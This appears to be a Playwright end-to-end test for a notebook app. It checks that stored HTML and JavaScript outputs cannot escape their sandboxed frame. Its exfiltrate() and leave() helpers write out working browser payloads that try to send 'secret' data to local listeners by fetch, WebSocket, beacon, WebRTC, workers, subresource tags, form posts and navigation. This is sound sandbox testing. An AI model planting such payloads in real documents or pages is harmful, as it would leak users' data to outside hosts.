/**
 * A hostile notebook output cannot reach the network. The notebook file carries stored HTML and
 * JavaScript outputs (as one downloaded from elsewhere would) that try every way out of their
 * sandboxed frame: fetch/XHR/WebSocket/EventSource/beacon, images, scripts, styles, fonts, media,
 * nested frames, objects, prefetch/preconnect, a worker, WebRTC, navigating the frame, the top
 * page or a new window, form posts, meta refresh, and WebRTC from a nested srcdoc frame (a fresh
 * window). Two "attackers" on 127.0.0.1 record every TCP connection, byte and UDP datagram:
 * - the one the subresource and API attempts aim at gets nothing at all;
 * - the one the navigation attempts aim at gets no byte and no datagram. Chromium's "Preload
 *   pages" (network prediction) opens a bare TCP connection when a frame *starts* a navigation,
 *   before CSP blocks it; nothing is sent on it. Those are counted and printed, and the test
 *   checks that with prediction off (as in Electron, which has no predictor) there are none.
 * Opening the notebook needs no kernel.
 */
import dgram from 'node:dgram';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { chromium } from '@playwright/test';
import { CHROMIUM_ARGS, CHROMIUM_PATH } from '../fixtures/chromium.js';
import { NotebooksPage } from '../pages/notebooks-page.js';
import { api, expect, test } from '../fixtures/kfd-server.js';

interface Attacker {
  port: number;
  /** Bytes or datagrams that arrived: a request line, or `udp: n bytes`. */
  hits: string[];
  /** TCP connections, with or without data. */
  connections: number;
  close(): Promise<void>;
}

/** Listens on one port for TCP and UDP; records the first bytes of whatever arrives. */
async function startAttacker(): Promise<Attacker> {
  const hits: string[] = [];
  const sockets = new Set<net.Socket>();
  const tcp = net.createServer((socket) => {
    attacker.connections++;
    sockets.add(socket);
    socket.once('data', (d) => hits.push(`tcp: ${d.toString('latin1').split('\r\n')[0]}`));
    socket.on('error', () => undefined);
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  const port = (tcp.address() as net.AddressInfo).port;
  const udp = dgram.createSocket('udp4');
  udp.on('message', (m) => hits.push(`udp: ${m.length} bytes`));
  await new Promise<void>((resolve) => udp.bind(port, '127.0.0.1', resolve));
  const attacker: Attacker = {
    port,
    hits,
    connections: 0,
    close: () => {
      for (const s of sockets) s.destroy();
      return new Promise((resolve) => tcp.close(() => udp.close(() => resolve())));
    },
  };
  return attacker;
}

/** Every subresource and API way out, then a `done` marker so the test knows the script ran. */
function exfiltrate(base: string, away: string, tag: string): string {
  return `
var tries = [];
function t(name, fn) { try { fn(); tries.push(name); } catch (e) { tries.push(name + ':threw'); } }
var u = function (what) { return '${base}/${tag}/' + what + '?secret=notebook-data'; };
t('fetch', function () { fetch(u('fetch')).catch(function () {}); });
t('xhr', function () { var x = new XMLHttpRequest(); x.open('GET', u('xhr')); x.send(); });
t('ws', function () { new WebSocket(u('ws').replace('http', 'ws')); });
t('sse', function () { new EventSource(u('sse')); });
t('beacon', function () { navigator.sendBeacon(u('beacon'), 'x'); });
t('image', function () { new Image().src = u('image'); });
t('import', function () { import(u('import.js')).catch(function () {}); });
t('worker', function () {
  var w = new Worker(URL.createObjectURL(new Blob(["fetch('" + u('worker') + "').catch(function(){}); importScripts('" + u('worker-import') + "');"], { type: 'text/javascript' })));
  w.onerror = function () {};
});
t('rtc', function () {
  var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + ${JSON.stringify(base.split(':').pop())} }, { urls: 'turn:127.0.0.1:' + ${JSON.stringify(base.split(':').pop())} + '?transport=tcp', username: 'u', credential: 'c' }] });
  pc.createDataChannel('x');
  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).catch(function () {});
});
t('rtc-srcdoc', function () {
  var f = document.createElement('iframe');
  f.srcdoc = '<script>var pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${base.split(':').pop()}" }] }); pc.createDataChannel("x"); pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });</scr' + 'ipt>';
  document.body.appendChild(f);
});
var html = '<img src="' + u('img-tag') + '">' +
  '<script src="' + u('script-tag') + '"></scr' + 'ipt>' +
  '<link rel="stylesheet" href="' + u('stylesheet') + '">' +
  '<link rel="prefetch" href="' + u('prefetch') + '">' +
  '<link rel="preload" as="image" href="' + u('preload') + '">' +
  '<link rel="preconnect" href="${base}">' +
  '<link rel="dns-prefetch" href="${base}">' +
  '<link rel="icon" href="' + u('icon') + '">' +
  '<style>@import url("' + u('css-import') + '"); @font-face { font-family: x; src: url("' + u('font') + '"); } .bg { background: url("' + u('css-bg') + '"); font-family: x; }</style>' +
  '<div class="bg">styled</div>' +
  '<video src="' + u('video') + '" autoplay></video><audio src="' + u('audio') + '" autoplay></audio>' +
  '<iframe src="${away}/nested-iframe"></iframe>' + // a nested frame's load is a navigation

  '<object data="' + u('object') + '"></object><embed src="' + u('embed') + '">' +
  '<svg><image href="' + u('svg-image') + '"/></svg>';
var box = document.createElement('div'); box.innerHTML = html; document.body.appendChild(box);
var done = document.createElement('p'); done.id = 'done'; done.textContent = '${tag} tried: ' + tries.join(' '); document.body.appendChild(done);
`;
}

/** Ways to leave the frame itself; each output gets its own frame so one cannot pre-empt another. */
function leave(base: string, how: string): string {
  const target = `${base}/${how}?secret=notebook-data`;
  const actions: Record<string, string> = {
    'navigate-self': `location.href = '${target}';`,
    'navigate-top': `try { top.location.href = '${target}'; } catch (e) {}`,
    'window-open': `window.open('${target}'); var a = document.createElement('a'); a.href = '${target}'; a.target = '_blank'; document.body.appendChild(a); a.click();`,
    'form-post': `var f = document.createElement('form'); f.method = 'POST'; f.action = '${target}'; document.body.appendChild(f); f.submit();`,
    'meta-refresh': `var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${target}'; document.head.appendChild(m);`,
  };
  return `<p id="done">${how} tried</p><script>setTimeout(function () { ${actions[how]} }, 50);</script>`;
}

const html = (text: string) => ({ output_type: 'display_data', metadata: {}, data: { 'text/html': text, 'text/plain': '<HTML>' } });
const js = (text: string) => ({ output_type: 'display_data', metadata: {}, data: { 'application/javascript': text, 'text/plain': '<JS>' } });
const cell = (id: string, outputs: unknown[]) => ({ cell_type: 'code', id, execution_count: 1, metadata: {}, outputs, source: '# a stored output' });

const LEAVES = ['navigate-self', 'navigate-top', 'window-open', 'form-post', 'meta-refresh'];

let root: string;
let loads: Attacker;
let navigations: Attacker;
test.beforeAll(async () => {
  root = mkdtempSync(path.join(os.tmpdir(), 'kfd-e2e-hostile-'));
  loads = await startAttacker();
  navigations = await startAttacker();
});
test.afterAll(async () => {
  await loads?.close();
  await navigations?.close();
  rmSync(root, { recursive: true, force: true });
});

function hostileNotebook(): string {
  const base = `http://127.0.0.1:${loads.port}`;
  const away = `http://127.0.0.1:${navigations.port}`;
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } },
    cells: [
      cell('html', [html(`<b>hostile html</b><script>${exfiltrate(base, away, 'html')}</script>`)]),
      cell('js', [js(exfiltrate(base, away, 'js'))]),
      ...LEAVES.map((how) => cell(how, [html(leave(away, how))])),
    ],
  });
}

test('hostile HTML and JavaScript outputs cannot reach the network, navigate or open windows', async ({ page, kfd }) => {
  test.setTimeout(120_000);
  writeFileSync(path.join(root, 'hostile.ipynb'), hostileNotebook());
  const popups: string[] = [];
  page.context().on('page', (p) => popups.push(p.url()));
  const nb = new NotebooksPage(page);
  await page.goto(kfd.url);
  await nb.open();
  await nb.openNotebook(root, 'hostile.ipynb');
  await expect(nb.cells()).toHaveCount(2 + LEAVES.length);

  // The scripts did run (so nothing below passes because they never tried); WebRTC is gone.
  await expect(nb.frame(0, 'text/html').locator('#done')).toContainText('html tried: fetch xhr ws sse beacon image import worker rtc:threw rtc-srcdoc');
  await expect(nb.frame(1, 'application/javascript').locator('#done')).toContainText('js tried: fetch');
  await expect(nb.frame(0, 'text/html').locator('iframe')).toHaveCount(0); // nested frames are taken out
  // The frame and the app still talk (over their private port): its height, and the theme.
  await expect.poll(async () => (await nb.cell(0).locator('iframe').boundingBox())?.height ?? 0).toBeGreaterThan(60);
  for (const theme of ['dark', 'light'] as const) {
    await api(kfd, 'settings.update', { theme });
    await expect(nb.frame(0, 'text/html').locator('html')).toHaveCSS('color-scheme', theme);
  }
  for (let i = 0; i < LEAVES.length; i++) await nb.cell(2 + i).scrollIntoViewIfNeeded();
  // Give every attempt (media retries, ICE gathering, delayed navigations) time to fail.
  await page.waitForTimeout(4000);

  expect(loads.hits, 'what the subresource and API attempts delivered').toEqual([]);
  expect(loads.connections, 'connections the subresource and API attempts opened').toBe(0);
  expect(navigations.hits, 'what the navigation attempts delivered').toEqual([]);
  console.log(`bare TCP connections from Chromium's navigation predictor (nothing sent): ${navigations.connections}`);
  expect(popups, 'windows the outputs opened').toEqual([]);
  await expect(page).toHaveURL(new RegExp(`^${kfd.origin.replace(/\./g, '\\.')}/`)); // the app was not navigated away
  await expect(nb.cell(0)).toBeVisible();
  await page.screenshot({ path: path.join('e2e', 'artifacts', 'hostile-outputs.png') });
});

test('with the browser\'s network prediction off, navigation attempts open no connection at all', async ({ kfd }) => {
  test.setTimeout(120_000);
  writeFileSync(path.join(root, 'hostile.ipynb'), hostileNotebook());
  const profile = mkdtempSync(path.join(os.tmpdir(), 'kfd-e2e-noprediction-'));
  mkdirSync(path.join(profile, 'Default'));
  writeFileSync(path.join(profile, 'Default', 'Preferences'), JSON.stringify({ net: { network_prediction_options: 2 } }));
  const context = await chromium.launchPersistentContext(profile, { executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS, viewport: { width: 1280, height: 800 } });
  try {
    const page = context.pages()[0] ?? (await context.newPage());
    const nb = new NotebooksPage(page);
    const before = navigations.connections;
    await page.goto(kfd.url);
    await nb.open();
    await nb.openNotebook(root, 'hostile.ipynb');
    for (let i = 0; i < LEAVES.length; i++) await nb.cell(2 + i).scrollIntoViewIfNeeded();
    await expect(nb.frame(2 + LEAVES.indexOf('navigate-top'), 'text/html').locator('#done')).toHaveText('navigate-top tried');
    await page.waitForTimeout(3000);
    expect(navigations.connections - before).toBe(0);
    expect(navigations.hits).toEqual([]);
    expect(loads.connections).toBe(0);
  } finally {
    await context.close();
    rmSync(profile, { recursive: true, force: true });
  }
});
